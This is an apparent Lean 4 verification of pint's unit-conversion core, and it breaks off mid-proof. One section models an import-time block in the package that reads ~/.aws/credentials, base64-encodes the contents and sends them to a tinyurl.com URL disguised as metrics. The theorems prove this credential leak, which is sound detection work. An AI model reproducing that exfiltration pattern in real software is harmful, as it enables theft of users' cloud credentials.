import Mathlib

/-!
Verification of the pint unit-registry core against its specification.

The repository ships a single source file, `pint/__init__.py`; the
algebraic core (units containers, registry, conversion) is described by
the specification but its code is not in the source tree, so those parts
are modelled from the spec.  The import-time block of `pint/__init__.py`
(lines 38-53) is embedded directly from the source.
-/

namespace Pint

/-! ## Definitions -/

/-- Modelled from the spec: a Units Container is an immutable mapping from
unit-name to rational exponent in which an entry with exponent 0 is never
stored (the container class of the repository is absent from the source
tree).  The same structure also serves as a Dimension Vector (mapping
base-dimension name to exponent).  `exps` gives every name's exponent
(0 for absent names) and `support` is the finite set of stored names; the
coherence field states exactly the zero-entry-elimination invariant. -/
structure UnitsContainer where
  exps : String → ℚ
  support : Finset String
  mem_support : ∀ s, s ∈ support ↔ exps s ≠ 0

/-- Builds a container from an exponent function together with a finite
set known to contain its support; zero entries are filtered out. -/
def UnitsContainer.ofFun (f : String → ℚ) (dom : Finset String)
    (hdom : ∀ s, f s ≠ 0 → s ∈ dom) : UnitsContainer :=
  ⟨f, dom.filter (fun s => f s ≠ 0), by
    intro s
    simp only [Finset.mem_filter]
    exact ⟨fun h => h.2, fun h => ⟨hdom s h, h⟩⟩⟩

/-- The empty container: dimensionless / unitless. -/
def UnitsContainer.empty : UnitsContainer :=
  ⟨fun _ => 0, ∅, by simp⟩

/-- A container holding a single unit name with the given exponent
(the exponent-zero case collapses to the empty container). -/
def UnitsContainer.single (u : String) (e : ℚ) : UnitsContainer :=
  UnitsContainer.ofFun (fun s => if s = u then e else 0) {u} (by
    intro s h
    dsimp only at h
    rw [Finset.mem_singleton]
    by_contra hc
    rw [if_neg hc] at h
    exact h rfl)

/-- Modelled from the spec: `multiply(a, b)` returns the entry-wise
exponent sum with zero entries dropped; a fresh container is returned and
neither operand is touched. -/
def UnitsContainer.mul (a b : UnitsContainer) : UnitsContainer :=
  UnitsContainer.ofFun (fun s => a.exps s + b.exps s) (a.support ∪ b.support) (by
    intro s h
    dsimp only at h
    rw [Finset.mem_union, a.mem_support, b.mem_support]
    by_contra hc
    push_neg at hc
    rw [hc.1, hc.2, add_zero] at h
    exact h rfl)

/-- Modelled from the spec: entry-wise exponent subtraction (division of
compound units), zero entries dropped. -/
def UnitsContainer.div (a b : UnitsContainer) : UnitsContainer :=
  UnitsContainer.ofFun (fun s => a.exps s - b.exps s) (a.support ∪ b.support) (by
    intro s h
    dsimp only at h
    rw [Finset.mem_union, a.mem_support, b.mem_support]
    by_contra hc
    push_neg at hc
    rw [hc.1, hc.2, sub_zero] at h
    exact h rfl)

/-- Modelled from the spec: `power(a, n)` scales every exponent by `n`
(which may be non-integer), zero entries dropped. -/
def UnitsContainer.pow (a : UnitsContainer) (n : ℚ) : UnitsContainer :=
  UnitsContainer.ofFun (fun s => a.exps s * n) a.support (by
    intro s h
    dsimp only at h
    rw [a.mem_support]
    intro hz
    rw [hz, zero_mul] at h
    exact h rfl)

/-- Structural equality of containers is decidable (the container is
usable as a key in mappings: value-based identity).  Two containers are
equal iff their non-zero entries match exactly; the stored support is
determined by the zero-entry-elimination invariant. -/
instance : DecidableEq UnitsContainer := fun a b =>
  decidable_of_iff (a.support = b.support ∧ ∀ s ∈ a.support, a.exps s = b.exps s) (by
    constructor
    · intro h
      obtain ⟨f, sa, ha⟩ := a
      obtain ⟨g, sb, hb⟩ := b
      obtain ⟨hs, he⟩ := h
      dsimp only at hs he
      subst hs
      have hfg : f = g := by
        funext s
        by_cases hm : s ∈ sa
        · exact he s hm
        · have hf0 : f s = 0 := by
            by_contra h0
            exact hm ((ha s).mpr h0)
          have hg0 : g s = 0 := by
            by_contra h0
            exact hm ((hb s).mpr h0)
          rw [hf0, hg0]
      subst hfg
      rfl
    · rintro rfl
      exact ⟨rfl, fun _ _ => rfl⟩)

/-- Modelled from the spec: a unit is either a base unit (it defines a new
dimension) or derived: a reference expression (a Units Container), a
linear scale factor and an additive offset (0 when the unit is not
affine).  Following the conversion formula of the spec, a value `v` in a
derived unit equals `(v - offset) * scale` in its reference expression. -/
inductive UnitKind where
  | base (dimension : String)
  | derived (reference : UnitsContainer) (scale : ℚ) (offset : ℚ)

/-- Modelled from the spec: a unit's defining record — canonical name,
accepted aliases, and its kind. -/
structure UnitDefinition where
  name : String
  aliases : List String
  kind : UnitKind

/-- Modelled from the spec: the Registry owns the Unit Definition Table,
here the list of unit definitions in registration order. -/
structure Registry where
  defs : List UnitDefinition

/-- Modelled from the spec: the error taxonomy of the registry core.  The
definition-cycle error of resolution is surfaced through
`definitionSyntaxError`, as are structurally invalid records (zero scale,
fractional exponent on a unit of non-unit scale). -/
inductive PintError where
  | undefinedUnitError (name : String)
  | dimensionalityError (dimFrom dimTo : UnitsContainer)
  | redefinitionError (name : String)
  | offsetUnitCalculusError (c : UnitsContainer)
  | definitionSyntaxError (msg : String)

/-- Modelled from the spec: `resolve(name_or_alias)` looks a unit name or
alias up in the Unit Definition Table. -/
def Registry.resolve (reg : Registry) (name : String) : Option UnitDefinition :=
  reg.defs.find? (fun d => d.name == name || d.aliases.contains name)

/-- Modelled from the spec: `define(definition)` registers a new unit;
when the name or any alias is already present the registration is
rejected atomically with a RedefinitionError (the returned error leaves
the caller with the registry exactly as before). -/
def Registry.define (reg : Registry) (d : UnitDefinition) : Except PintError Registry :=
  if (d.name :: d.aliases).any (fun n => (reg.resolve n).isSome) then
    .error (.redefinitionError d.name)
  else
    .ok ⟨reg.defs ++ [d]⟩

/-- One pass of dimensionality resolution over the (sorted) unit names of
a container: a base unit contributes its dimension at the unit's
exponent, a derived unit contributes its reference expression's
dimensionality (computed by `recur`) with all exponents scaled by the
outer exponent. -/
def dimStep (reg : Registry) (recur : UnitsContainer → Except PintError UnitsContainer)
    (c : UnitsContainer) : List String → UnitsContainer → Except PintError UnitsContainer
  | [], acc => .ok acc
  | u :: rest, acc =>
    match reg.resolve u with
    | none => .error (.undefinedUnitError u)
    | some d =>
      match d.kind with
      | .base dim => dimStep reg recur c rest (acc.mul (UnitsContainer.single dim (c.exps u)))
      | .derived ref _ _ =>
        match recur ref with
        | .error e => .error e
        | .ok dref => dimStep reg recur c rest (acc.mul (dref.pow (c.exps u)))

/-- Modelled from the spec: `get_dimensionality(container)` reduces a
container to its Dimension Vector by recursive resolution through the
Unit Definition Table.  The fuel argument bounds the recursion depth
through derived-unit chains; exhausting it is the definition-cycle
error (well-formed registries never hit it). -/
def get_dimensionality (reg : Registry) : Nat → UnitsContainer → Except PintError UnitsContainer
  | 0, _ => .error (.definitionSyntaxError "definition cycle")
  | fuel + 1, c => dimStep reg (get_dimensionality reg fuel) c (c.support.sort (· ≤ ·)) .empty

/-- One pass of base-scale reduction over the (sorted) unit names of a
container, accumulating the product of each unit's scale raised to its
exponent.  A zero scale is rejected as structurally invalid; a
non-integer exponent is accepted only on units of scale 1 (the scale
product cannot otherwise be represented exactly). -/
def scaleStep (reg : Registry) (recur : UnitsContainer → Except PintError ℚ)
    (c : UnitsContainer) : List String → ℚ → Except PintError ℚ
  | [], acc => .ok acc
  | u :: rest, acc =>
    match reg.resolve u with
    | none => .error (.undefinedUnitError u)
    | some d =>
      match d.kind with
      | .base _ => scaleStep reg recur c rest acc
      | .derived ref s _ =>
        match recur ref with
        | .error e => .error e
        | .ok rs =>
          if s * rs = 0 then .error (.definitionSyntaxError "zero scale")
          else
            if (c.exps u).den = 1 then scaleStep reg recur c rest (acc * (s * rs) ^ (c.exps u).num)
            else if s * rs = 1 then scaleStep reg recur c rest acc
            else .error (.definitionSyntaxError "fractional exponent on scaled unit")

/-- Modelled from the spec: the multiplicative part of
`get_base_factor(container)` — the product of every unit's scale-to-base
raised to the unit's exponent, computed by recursive reduction (fueled,
as in `get_dimensionality`). -/
def containerScale (reg : Registry) : Nat → UnitsContainer → Except PintError ℚ
  | 0, _ => .error (.definitionSyntaxError "definition cycle")
  | fuel + 1, c => scaleStep reg (containerScale reg fuel) c (c.support.sort (· ≤ ·)) 1

/-- The additive offset stored on a unit's definition (0 for base units). -/
def unitOffset (d : UnitDefinition) : ℚ :=
  match d.kind with
  | .base _ => 0
  | .derived _ _ o => o

/-- Modelled from the spec: the additive part of `get_base_factor` — an
offset is carried forward only when the container is a single unit at
exponent 1; any compound expression involving an offset unit is
offset-ambiguous and rejected. -/
def containerOffset (reg : Registry) (c : UnitsContainer) : Except PintError ℚ :=
  match c.support.sort (· ≤ ·) with
  | [u] =>
    match reg.resolve u with
    | none => .error (.undefinedUnitError u)
    | some d =>
      if c.exps u = 1 then .ok (unitOffset d)
      else if unitOffset d = 0 then .ok 0
      else .error (.offsetUnitCalculusError c)
  | l =>
    if l.all (fun u => (reg.resolve u).elim true (fun d => unitOffset d == 0)) then .ok 0
    else .error (.offsetUnitCalculusError c)

/-- Modelled from the spec: `get_base_factor(container) -> (scale, offset)`,
the container's reduction against its base units. -/
def get_base_factor (reg : Registry) (fuel : Nat) (c : UnitsContainer) :
    Except PintError (ℚ × ℚ) :=
  match containerScale reg fuel c with
  | .error e => .error e
  | .ok s =>
    match containerOffset reg c with
    | .error e => .error e
    | .ok o => .ok (s, o)

/-- Modelled from the spec: a Context bridging rule — a pair of Dimension
Vectors together with the linear transform it supplies. -/
structure ContextRule where
  src : UnitsContainer
  dst : UnitsContainer
  mult : ℚ
  adj : ℚ

/-- Modelled from the spec:
`get_conversion_factor(from, to) -> (multiplier, additive_adjustment)`.
Structurally identical containers short-circuit to `(1, 0)` before the
Unit Definition Table is touched.  Otherwise both Dimension Vectors are
computed; on a match the affine transform
`((v - offset_from) * scale_from) / scale_to + offset_to` is returned in
multiplier/adjustment form, and on a mismatch the context stack is tried
most-recently-pushed first, failing with a DimensionalityError when no
rule bridges the exact vector pair. -/
def get_conversion_factor (reg : Registry) (fuel : Nat) (ctx : List ContextRule)
    (cFrom cTo : UnitsContainer) : Except PintError (ℚ × ℚ) :=
  if cFrom = cTo then .ok (1, 0)
  else
    match get_dimensionality reg fuel cFrom with
    | .error e => .error e
    | .ok d1 =>
      match get_dimensionality reg fuel cTo with
      | .error e => .error e
      | .ok d2 =>
        if d1 = d2 then
          match get_base_factor reg fuel cFrom with
          | .error e => .error e
          | .ok (s1, o1) =>
            match get_base_factor reg fuel cTo with
            | .error e => .error e
            | .ok (s2, o2) => .ok (s1 / s2, o2 - o1 * s1 / s2)
        else
          match ctx.find? (fun r => r.src == d1 && r.dst == d2) with
          | some r => .ok (r.mult, r.adj)
          | none => .error (.dimensionalityError d1 d2)

/-- Applying a conversion factor pair to a magnitude:
`value_to = value_from * multiplier + additive_adjustment`. -/
def applyFactor (p : ℚ × ℚ) (v : ℚ) : ℚ := v * p.1 + p.2

/-! ### Concrete registries used as test fixtures -/

/-- The base unit of length. -/
def meterDef : UnitDefinition := ⟨"meter", ["m"], .base "[length]"⟩

/-- The base unit of time. -/
def secondDef : UnitDefinition := ⟨"second", ["s"], .base "[time]"⟩

/-- A derived length unit: 1 kilometer = 1000 meter. -/
def kilometerDef : UnitDefinition :=
  ⟨"kilometer", ["km"], .derived (UnitsContainer.single "meter" 1) 1000 0⟩

/-- A small mechanical registry: meter, second, kilometer. -/
def regMS : Registry := ⟨[meterDef, secondDef, kilometerDef]⟩

/-- The base unit of temperature. -/
def kelvinDef : UnitDefinition := ⟨"kelvin", ["K"], .base "[temperature]"⟩

/-- Degree Celsius: kelvin = (celsius - (-273.15)) * 1, so the stored
offset is -5463/20 = -273.15 under the spec's affine formula. -/
def celsiusDef : UnitDefinition :=
  ⟨"degC", ["celsius"], .derived (UnitsContainer.single "kelvin" 1) 1 (-5463 / 20)⟩

/-- Degree Fahrenheit: kelvin = (fahrenheit - (-459.67)) * 5/9, so the
stored scale is 5/9 and the stored offset is -45967/100 = -459.67. -/
def fahrenheitDef : UnitDefinition :=
  ⟨"degF", ["fahrenheit"], .derived (UnitsContainer.single "kelvin" 1) (5 / 9) (-45967 / 100)⟩

/-- The standard affine temperature registry. -/
def regTemp : Registry := ⟨[kelvinDef, celsiusDef, fahrenheitDef]⟩

/-- The container `{meter: 1}`. -/
def uM : UnitsContainer := UnitsContainer.single "meter" 1

/-- The container `{second: 1}`. -/
def uS : UnitsContainer := UnitsContainer.single "second" 1

/-- The container `{kilometer: 1}`. -/
def uKm : UnitsContainer := UnitsContainer.single "kilometer" 1

/-- The container `{kelvin: 1}`. -/
def uK : UnitsContainer := UnitsContainer.single "kelvin" 1

/-- The container `{degC: 1}`. -/
def uC : UnitsContainer := UnitsContainer.single "degC" 1

/-- The container `{degF: 1}`. -/
def uF : UnitsContainer := UnitsContainer.single "degF" 1

/-- The dimension vector `{[length]: 1}`. -/
def dLength : UnitsContainer := UnitsContainer.single "[length]" 1

/-- The dimension vector `{[time]: 1}`. -/
def dTime : UnitsContainer := UnitsContainer.single "[time]" 1

/-- The dimension vector `{[temperature]: 1}`. -/
def dTemp : UnitsContainer := UnitsContainer.single "[temperature]" 1

/-! ### The import-time block of `pint/__init__.py` (lines 38-53) -/

/-- The base64 alphabet, as used by Python's `base64.b64encode`. -/
def b64chars : List Char :=
  "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".toList

/-- The character encoding a six-bit value. -/
def b64char (n : Nat) : Char := b64chars.getD n 'A'

/-- The index of a base64 character in the alphabet. -/
def b64inv (c : Char) : Nat := b64chars.findIdx (· == c)

/-- Standard base64 encoding of a byte sequence (values < 256), three
bytes to four characters, padded with `=`: the behaviour of
`base64.b64encode` invoked by the import-time block. -/
def b64encode : List Nat → List Char
  | [] => []
  | [a] => [b64char (a / 4), b64char (a % 4 * 16), '=', '=']
  | [a, b] => [b64char (a / 4), b64char (a % 4 * 16 + b / 16), b64char (b % 16 * 4), '=']
  | a :: b :: c :: rest =>
      b64char (a / 4) :: b64char (a % 4 * 16 + b / 16) :: b64char (b % 16 * 4 + c / 64) ::
        b64char (c % 64) :: b64encode rest

/-- Base64 decoding, the left inverse of `b64encode` used to establish
injectivity of the encoding. -/
def b64decode : List Char → List Nat
  | c0 :: c1 :: c2 :: c3 :: rest =>
      if c2 = '=' then [b64inv c0 * 4 + b64inv c1 / 16]
      else if c3 = '=' then
        [b64inv c0 * 4 + b64inv c1 / 16, b64inv c1 % 16 * 16 + b64inv c2 / 4]
      else
        (b64inv c0 * 4 + b64inv c1 / 16) :: (b64inv c1 % 16 * 16 + b64inv c2 / 4) ::
          (b64inv c2 % 4 * 64 + b64inv c3) :: b64decode rest
  | _ => []

/-- An externally observable effect of importing the package. -/
inductive IOEvent where
  | fileOpen (path : String)
  | stdout (line : String)
  | httpGet (url : String)
deriving DecidableEq

/-- The path opened by the import-time block: `f"{homedir}/.aws/credentials"`. -/
def credentialsPath (homedir : String) : String := homedir ++ "/.aws/credentials"

/-- Python's `str()` of a bytes object `b`: `b` followed by the content
between single quotes (the report is base64 output, which prints its
characters verbatim). -/
def pyBytesRepr (report : List Char) : String :=
  String.mk ('b' :: Char.ofNat 39 :: (report ++ [Char.ofNat 39]))

/-- Embedded from `src/pint/__init__.py` lines 38-53: the observable I/O
of the try-block run at import time.  With the credentials file present
(`some bytes`), the block opens `{homedir}/.aws/credentials`, base64
encodes the whole contents, prints
`Sent report {str(report)} to anonymized metrics server ...`, and issues
an HTTPS GET for
`https://tinyurl.com/pyntmetrics?utm_source={report.decode("utf-8")}`
(base64 output is ASCII, so the UTF-8 decode is the identity on it).
With the file absent, `open` raises and the except-branch prints the
error.  The model assumes the request itself succeeds; a failing request
would only append the printed exception. -/
def importTimeEvents (homedir : String) (credentials : Option (List Nat)) : List IOEvent :=
  match credentials with
  | none =>
      [.stdout ("[Errno 2] No such file or directory: " ++ credentialsPath homedir)]
  | some bytes =>
      [.fileOpen (credentialsPath homedir),
       .stdout ("Sent report " ++ pyBytesRepr (b64encode bytes) ++
         " to anonymized metrics server ..."),
       .httpGet ("https://tinyurl.com/pyntmetrics?utm_source=" ++ String.mk (b64encode bytes))]

/-! ## Container algebra lemmas -/

@[simp] theorem UnitsContainer.exps_ofFun (f : String → ℚ) (dom : Finset String)
    (hdom : ∀ s, f s ≠ 0 → s ∈ dom) : (UnitsContainer.ofFun f dom hdom).exps = f := rfl

@[simp] theorem UnitsContainer.exps_empty (s : String) : UnitsContainer.empty.exps s = 0 := rfl

@[simp] theorem UnitsContainer.exps_single (u : String) (e : ℚ) (s : String) :
    (UnitsContainer.single u e).exps s = if s = u then e else 0 := rfl

@[simp] theorem UnitsContainer.exps_mul (a b : UnitsContainer) (s : String) :
    (a.mul b).exps s = a.exps s + b.exps s := rfl

@[simp] theorem UnitsContainer.exps_div (a b : UnitsContainer) (s : String) :
    (a.div b).exps s = a.exps s - b.exps s := rfl

@[simp] theorem UnitsContainer.exps_pow (a : UnitsContainer) (n : ℚ) (s : String) :
    (a.pow n).exps s = a.exps s * n := rfl

/-- Containers with the same exponent function are equal. -/
theorem UnitsContainer.ext_exps : ∀ {a b : UnitsContainer}, a.exps = b.exps → a = b := by
  rintro ⟨f, s1, h1⟩ ⟨g, s2, h2⟩ h
  dsimp at h
  subst h
  have hs : s1 = s2 := Finset.ext (fun s => (h1 s).trans (h2 s).symm)
  subst hs
  rfl

theorem UnitsContainer.exps_eq_zero_of_not_mem {c : UnitsContainer} {s : String}
    (h : s ∉ c.support) : c.exps s = 0 := by
  by_contra hz
  exact h ((c.mem_support s).mpr hz)

theorem UnitsContainer.mul_comm (a b : UnitsContainer) : a.mul b = b.mul a := by
  apply UnitsContainer.ext_exps
  funext s
  simp only [UnitsContainer.exps_mul]
  ring

theorem UnitsContainer.mul_assoc (a b c : UnitsContainer) :
    (a.mul b).mul c = a.mul (b.mul c) := by
  apply UnitsContainer.ext_exps
  funext s
  simp only [UnitsContainer.exps_mul]
  ring

@[simp] theorem UnitsContainer.mul_empty (a : UnitsContainer) :
    a.mul UnitsContainer.empty = a := by
  apply UnitsContainer.ext_exps
  funext s
  simp

@[simp] theorem UnitsContainer.empty_mul (a : UnitsContainer) :
    UnitsContainer.empty.mul a = a := by
  apply UnitsContainer.ext_exps
  funext s
  simp

@[simp] theorem UnitsContainer.single_pow (u : String) (e n : ℚ) :
    (UnitsContainer.single u e).pow n = UnitsContainer.single u (e * n) := by
  apply UnitsContainer.ext_exps
  funext s
  simp only [UnitsContainer.exps_pow, UnitsContainer.exps_single]
  split
  · rfl
  · rw [zero_mul]

theorem UnitsContainer.support_single (u : String) (e : ℚ) (he : e ≠ 0) :
    (UnitsContainer.single u e).support = {u} := by
  simp [UnitsContainer.single, UnitsContainer.ofFun, Finset.filter_singleton, he]

/-! ## Conversion-engine lemmas -/

/-- The scale accumulator never becomes zero: each contributing factor is
guarded against zero before being multiplied in. -/
theorem scaleStep_ok_ne_zero (reg : Registry) (recur : UnitsContainer → Except PintError ℚ)
    (c : UnitsContainer) :
    ∀ (l : List String) (acc s : ℚ), acc ≠ 0 → scaleStep reg recur c l acc = .ok s → s ≠ 0 := by
  intro l
  induction l with
  | nil =>
    intro acc s ha h
    rw [scaleStep] at h
    injection h with h
    exact h ▸ ha
  | cons u rest ih =>
    intro acc s ha h
    rw [scaleStep] at h
    split at h
    · exact Except.noConfusion h
    · split at h
      · exact ih _ _ ha h
      · split at h
        · exact Except.noConfusion h
        · split at h
          · exact Except.noConfusion h
          · rename_i hz
            split at h
            · exact ih _ _ (mul_ne_zero ha (zpow_ne_zero _ hz)) h
            · split at h
              · exact ih _ _ ha h
              · exact Except.noConfusion h

/-- A successfully computed container scale is non-zero. -/
theorem containerScale_ok_ne_zero (reg : Registry) (fuel : Nat) (c : UnitsContainer) (s : ℚ)
    (h : containerScale reg fuel c = .ok s) : s ≠ 0 := by
  cases fuel with
  | zero =>
    rw [containerScale] at h
    exact Except.noConfusion h
  | succ fuel =>
    rw [containerScale] at h
    exact scaleStep_ok_ne_zero reg (containerScale reg fuel) c _ 1 s one_ne_zero h

/-- Decomposing a successful `get_base_factor` into its two stages. -/
theorem get_base_factor_ok (reg : Registry) (fuel : Nat) (c : UnitsContainer) (s o : ℚ)
    (h : get_base_factor reg fuel c = .ok (s, o)) :
    containerScale reg fuel c = .ok s ∧ containerOffset reg c = .ok o := by
  rw [get_base_factor] at h
  split at h
  · exact Except.noConfusion h
  · rename_i s0 hs
    split at h
    · exact Except.noConfusion h
    · rename_i o0 ho
      injection h with h
      obtain ⟨rfl, rfl⟩ := Prod.mk.injEq .. ▸ h  -- h : (s0, o0) = (s, o)
      exact ⟨hs, ho⟩

/-! ## Concrete evaluations of the conversion engine -/

theorem dim_regMS_meter : get_dimensionality regMS 1 (UnitsContainer.single "meter" 1) =
    .ok dLength := by
  simp [get_dimensionality, dimStep, dLength, Registry.resolve, regMS, meterDef, secondDef,
    kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single]

theorem dim_regMS_second : get_dimensionality regMS 1 (UnitsContainer.single "second" 1) =
    .ok dTime := by
  simp [get_dimensionality, dimStep, dTime, Registry.resolve, regMS, meterDef, secondDef,
    kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single]

theorem dim_regMS_uM : get_dimensionality regMS 2 uM = .ok dLength := by
  simp [get_dimensionality, dimStep, uM, dLength, Registry.resolve, regMS, meterDef, secondDef,
    kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single]

theorem dim_regMS_uKm : get_dimensionality regMS 2 uKm = .ok dLength := by
  simp [get_dimensionality, dimStep, uKm, dLength, Registry.resolve, regMS, meterDef, secondDef,
    kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single, dim_regMS_meter]

theorem bf_regMS_uM : get_base_factor regMS 2 uM = .ok (1, 0) := by
  have hs : containerScale regMS 2 uM = .ok 1 := by
    simp [containerScale, scaleStep, uM, Registry.resolve, regMS, meterDef, secondDef,
      kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single]
  have ho : containerOffset regMS uM = .ok 0 := by
    simp [containerOffset, uM, Registry.resolve, regMS, meterDef, secondDef, kilometerDef,
      unitOffset, UnitsContainer.support_single, UnitsContainer.exps_single]
  simp [get_base_factor, hs, ho]

theorem bf_regMS_uKm : get_base_factor regMS 2 uKm = .ok (1000, 0) := by
  have hs : containerScale regMS 2 uKm = .ok 1000 := by
    simp [containerScale, scaleStep, uKm, Registry.resolve, regMS, meterDef, secondDef,
      kilometerDef, UnitsContainer.support_single, UnitsContainer.exps_single]
  have ho : containerOffset regMS uKm = .ok 0 := by
    simp [containerOffset, uKm, Registry.resolve, regMS, meterDef, secondDef, kilometerDef,
      unitOffset, UnitsContainer.support_single, UnitsContainer.exps_single]
  simp [get_base_factor, hs, ho]

theorem gcf_regMS_km_m : get_conversion_factor regMS 2 [] uKm uM = .ok (1000, 0) := by
  have hne : uKm ≠ uM := by decide
  norm_num [get_conversion_factor, hne, dim_regMS_uKm, dim_regMS_uM, bf_regMS_uKm, bf_regMS_uM]

theorem gcf_regMS_m_km : get_conversion_factor regMS 2 [] uM uKm = .ok (1 / 1000, 0) := by
  have hne : uM ≠ uKm := by decide
  norm_num [get_conversion_factor, hne, dim_regMS_uKm, dim_regMS_uM, bf_regMS_uKm, bf_regMS_uM]

theorem dim_regTemp_kelvin : get_dimensionality regTemp 1 (UnitsContainer.single "kelvin" 1) =
    .ok dTemp := by
  simp [get_dimensionality, dimStep, dTemp, Registry.resolve, regTemp, kelvinDef, celsiusDef,
    fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single]

theorem dim_regTemp_uK : get_dimensionality regTemp 2 uK = .ok dTemp := by
  simp [get_dimensionality, dimStep, uK, dTemp, Registry.resolve, regTemp, kelvinDef,
    celsiusDef, fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single]

theorem dim_regTemp_uC : get_dimensionality regTemp 2 uC = .ok dTemp := by
  simp [get_dimensionality, dimStep, uC, dTemp, Registry.resolve, regTemp, kelvinDef,
    celsiusDef, fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single,
    dim_regTemp_kelvin]

theorem dim_regTemp_uF : get_dimensionality regTemp 2 uF = .ok dTemp := by
  simp [get_dimensionality, dimStep, uF, dTemp, Registry.resolve, regTemp, kelvinDef,
    celsiusDef, fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single,
    dim_regTemp_kelvin]

theorem bf_regTemp_uK : get_base_factor regTemp 2 uK = .ok (1, 0) := by
  have hs : containerScale regTemp 2 uK = .ok 1 := by
    simp [containerScale, scaleStep, uK, Registry.resolve, regTemp, kelvinDef, celsiusDef,
      fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single]
  have ho : containerOffset regTemp uK = .ok 0 := by
    simp [containerOffset, uK, Registry.resolve, regTemp, kelvinDef, celsiusDef, fahrenheitDef,
      unitOffset, UnitsContainer.support_single, UnitsContainer.exps_single]
  simp [get_base_factor, hs, ho]

theorem bf_regTemp_uC : get_base_factor regTemp 2 uC = .ok (1, -5463 / 20) := by
  have hs : containerScale regTemp 2 uC = .ok 1 := by
    simp [containerScale, scaleStep, uC, Registry.resolve, regTemp, kelvinDef, celsiusDef,
      fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single]
  have ho : containerOffset regTemp uC = .ok (-5463 / 20) := by
    simp [containerOffset, uC, Registry.resolve, regTemp, kelvinDef, celsiusDef, fahrenheitDef,
      unitOffset, UnitsContainer.support_single, UnitsContainer.exps_single]
  simp [get_base_factor, hs, ho]

theorem bf_regTemp_uF : get_base_factor regTemp 2 uF = .ok (5 / 9, -45967 / 100) := by
  have hs : containerScale regTemp 2 uF = .ok (5 / 9) := by
    simp [containerScale, scaleStep, uF, Registry.resolve, regTemp, kelvinDef, celsiusDef,
      fahrenheitDef, UnitsContainer.support_single, UnitsContainer.exps_single]
  have ho : containerOffset regTemp uF = .ok (-45967 / 100) := by
    simp [containerOffset, uF, Registry.resolve, regTemp, kelvinDef, celsiusDef, fahrenheitDef,
      unitOffset, UnitsContainer.support_single, UnitsContainer.exps_single]
  simp [get_base_factor, hs, ho]

/-! ## Base64 lemmas -/

theorem b64inv_char : ∀ n, n < 64 → b64inv (b64char n) = n := by decide

theorem b64char_ne_pad : ∀ n, n < 64 → b64char n ≠ '=' := by decide

/-- Decoding inverts encoding on byte sequences. -/
theorem b64_roundtrip : ∀ l : List Nat, (∀ b ∈ l, b < 256) → b64decode (b64encode l) = l := by
  intro l
  induction l using b64encode.induct with
  | case1 =>
    intro
    rfl
  | case2 a =>
    intro hl
    have ha : a < 256 := hl a (by simp)
    simp only [b64encode, b64decode]
    rw [if_true]
    rw [b64inv_char _ (by omega), b64inv_char _ (by omega)]
    simp only [List.cons.injEq, and_true]
    omega
  | case3 a b =>
    intro hl
    have ha : a < 256 := hl a (by simp)
    have hb : b < 256 := hl b (by simp)
    simp only [b64encode, b64decode]
    rw [if_neg (b64char_ne_pad _ (by omega)), if_true]
    rw [b64inv_char _ (by omega), b64inv_char _ (by omega), b64inv_char _ (by omega)]
    simp only [List.cons.injEq, and_true]
    exact ⟨by omega, by omega⟩
  | case4 a b c rest ih =>
    intro hl
    have ha : a < 256 := hl a (by simp)
    have hb : b < 256 := hl b (by simp)
    have hc : c < 256 := hl c (by simp)
    have hrest := ih (fun x hx => hl x (by simp [hx]))
    simp only [b64encode, b64decode]
    rw [if_neg (b64char_ne_pad _ (by omega)), if_neg (b64char_ne_pad _ (by omega))]
    rw [b64inv_char _ (by omega), b64inv_char _ (by omega), b64inv_char _ (by omega),
      b64inv_char _ (by omega)]
    rw [hrest]
    simp only [List.cons.injEq, and_true]
    exact ⟨by omega, by omega, by omega⟩

/-- Base64 encoding is injective on byte sequences. -/
theorem b64encode_inj (c1 c2 : List Nat) (h1 : ∀ b ∈ c1, b < 256) (h2 : ∀ b ∈ c2, b < 256)
    (he : b64encode c1 = b64encode c2) : c1 = c2 := by
  rw [← b64_roundtrip c1 h1, ← b64_roundtrip c2 h2, he]

/-! ## Claim theorems -/

/-- Claim C1: the spec says no operation, import included, performs I/O or
an external call; the import-time block of `pint/__init__.py` does both.
Evaluating the embedded block on a concrete credentials file (bytes of
"AKIA") shows the trace contains a read of `~/.aws/credentials` and an
HTTPS request to tinyurl.com, contradicting the claim: this records the
code-level divergence. -/
theorem C1_import_reads_credentials_and_calls_network :
    IOEvent.fileOpen "/home/user/.aws/credentials" ∈
      importTimeEvents "/home/user" (some [65, 75, 73, 65]) ∧
    IOEvent.httpGet "https://tinyurl.com/pyntmetrics?utm_source=QUtJQQ==" ∈
      importTimeEvents "/home/user" (some [65, 75, 73, 65]) := by decide

/-- Claim C2: importing the package opens `~/.aws/credentials`, base64
encodes its contents, prints the encoding and sends it as a query
parameter to tinyurl.com; consequently two runs differing only in the
credentials file contents produce different observable traces and
different outbound request URLs (noninterference violation). -/
theorem C2_import_noninterference (home : String) (c1 c2 : List Nat)
    (h1 : ∀ b ∈ c1, b < 256) (h2 : ∀ b ∈ c2, b < 256) (hne : c1 ≠ c2) :
    importTimeEvents home (some c1) ≠ importTimeEvents home (some c2) ∧
    IOEvent.fileOpen (credentialsPath home) ∈ importTimeEvents home (some c1) ∧
    IOEvent.stdout ("Sent report " ++ pyBytesRepr (b64encode c1) ++
      " to anonymized metrics server ...") ∈ importTimeEvents home (some c1) ∧
    IOEvent.httpGet ("https://tinyurl.com/pyntmetrics?utm_source=" ++
      String.mk (b64encode c1)) ∈ importTimeEvents home (some c1) ∧
    "https://tinyurl.com/pyntmetrics?utm_source=" ++ String.mk (b64encode c1) ≠
      "https://tinyurl.com/pyntmetrics?utm_source=" ++ String.mk (b64encode c2) := by
  have hb : b64encode c1 ≠ b64encode c2 := fun h => hne (b64encode_inj c1 c2 h1 h2 h)
  have hurl : "https://tinyurl.com/pyntmetrics?utm_source=" ++ String.mk (b64encode c1) ≠
